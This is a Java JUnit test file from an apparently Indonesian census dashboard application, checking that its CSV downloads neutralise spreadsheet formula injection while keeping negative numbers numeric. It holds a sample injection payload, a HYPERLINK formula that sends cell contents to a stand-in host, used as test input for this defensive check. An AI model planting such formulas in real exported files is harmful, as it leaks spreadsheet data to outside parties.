package id.regsosek.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import id.regsosek.frame.AreaFiles;
import id.regsosek.frame.FrameImports;
import id.regsosek.identity.Groups;
import id.regsosek.identity.RegencyUsers;
import id.regsosek.support.AppTest;
import java.lang.reflect.RecordComponent;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Every dashboard download neutralises text a spreadsheet would run (=, +, -, @, tab, CR at the start) while its
 * numeric columns stay numbers, negative ones included.
 */
class DashboardCsvTest extends AppTest {

    static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")";
    /** The same as written: prefixed with a quote, quoted, inner quotes doubled. */
    static final String NEUTRALISED = "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\"";

    @Autowired
    private FrameImports imports;
    @Autowired
    private DashboardRefresher refresher;
    @Autowired
    private RegencyUsers users;

    /** One row of a dashboard table: every text component formula-like, every number negative. */
    private static Record row(Class<? extends Record> type) throws Exception {
        RecordComponent[] components = type.getRecordComponents();
        Class<?>[] types = new Class<?>[components.length];
        Object[] values = new Object[components.length];
        for (int i = 0; i < components.length; i++) {
            Class<?> t = components[i].getType();
            types[i] = t;
            values[i] = t == String.class ? FORMULA : t == int.class || t == Integer.class ? -3
                    : t == long.class ? -3L : t == double.class ? -2.5 : t == Instant.class
                    ? Instant.parse("2022-10-15T00:00:00Z") : t == LocalDate.class ? LocalDate.of(2022, 10, 15) : null;
        }
        return type.getDeclaredConstructor(types).newInstance(values);
    }

    @Test
    void everyTableNeutralisesItsTextAndKeepsItsNumbers() throws Exception {
        for (Class<? extends Record> type : List.of(DashboardViews.Step.class, DashboardViews.Area.class,
                DashboardViews.Officer.class, DashboardViews.Funnel.class, DashboardViews.Problem.class)) {
            String line = RecordCsv.write(type, List.of(row(type))).lines().skip(1).findFirst().orElseThrow();
            assertThat(line).as(type.getSimpleName()).contains(NEUTRALISED).doesNotContain("," + FORMULA)
                    .doesNotStartWith(FORMULA);
            if (type != DashboardViews.Problem.class) {
                assertThat(line).as(type.getSimpleName()).contains(",-3,");
            }
        }
        assertThat(RecordCsv.write(DashboardViews.Area.class, List.of(row(DashboardViews.Area.class))))
                .contains(",-2.5,");
    }

    @Test
    void areasDownloadOfARegencyWithFormulaNamesShowsThemAsText() {
        String regency = "32.78";
        var frame = imports.importArea(regency, new AreaFiles(
                utf8("code,province_code,name\n32.78,32,@Kota Uji\n"),
                utf8("code,regency_code,name\n32.78.01,32.78,\"" + FORMULA.replace("\"", "\"\"") + "\"\n"),
                utf8("code,district_code,name\n32.78.01.1001,32.78.01,+Desa\n")), "test");
        assertThat(frame.state()).as(frame.toString()).isEqualTo("DONE");
        var sls = imports.importSls(regency, "sls.csv", utf8("village_code,sls_code,sub_sls,name,type,"
                + "expected_families\n32.78.01.1001,0001,00,-RT 1,SLS,10\n"), "test");
        assertThat(sls.state()).as(sls.toString()).isEqualTo("DONE");
        users.ensure(new RegencyUsers.NewUser("manajer-3278", "Manajer", "Uji", null, "demo", Groups.MANAGER,
                regency));
        refresher.refresh(regency);
        var districts = new id.regsosek.support.Http("http://localhost:" + port, "manajer-3278", "demo")
                .get("/api/dashboard/areas.csv");
        assertThat(districts.statusCode()).isEqualTo(200);
        assertThat(districts.body()).contains("32.78.01," + NEUTRALISED + ",10,");
        var villages = new id.regsosek.support.Http("http://localhost:" + port, "manajer-3278", "demo")
                .get("/api/dashboard/areas.csv?parent=32.78.01");
        assertThat(villages.body()).contains("32.78.01.1001,\"'+Desa\",10,");
        var areas = new id.regsosek.support.Http("http://localhost:" + port, "manajer-3278", "demo")
                .get("/api/dashboard/areas.csv?parent=32.78.01.1001");
        assertThat(areas.body()).contains(",\"'-RT 1\",10,");
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
